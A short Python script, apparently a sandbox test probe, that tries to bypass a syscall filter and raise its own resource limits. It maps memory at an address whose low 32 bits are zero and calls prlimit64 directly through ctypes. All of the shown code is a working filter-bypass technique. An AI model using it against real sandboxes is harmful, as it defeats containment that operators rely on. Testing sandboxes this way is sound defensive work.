"""Raise its limits with a pointer whose low half is zero, for a filter that looks at one half."""

import ctypes
import mmap
import os
import resource
import struct

PRLIMIT64 = {"x86_64": 302, "aarch64": 261}[os.uname().machine]
ADDRESS, MAP_FIXED = 1 << 32, 0x10


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED
    if libc.mmap(ADDRESS, 4096, mmap.PROT_READ | mmap.PROT_WRITE, flags, -1, 0) != ADDRESS:
        return None
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_DATA, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
        soft, hard = resource.getrlimit(limit)
        if hard == resource.RLIM_INFINITY:
            continue
        ctypes.memmove(ADDRESS, struct.pack("<QQ", hard + 1, hard + 1), 16)
        for pid in (0, os.getpid(), 1 << 32):
            arguments = map(ctypes.c_long, (pid, limit, ADDRESS, 0))
            if libc.syscall(ctypes.c_long(PRLIMIT64), *arguments) == 0 and resource.getrlimit(limit)[1] > hard:
                return f"raised limit {limit} to {hard + 1}"
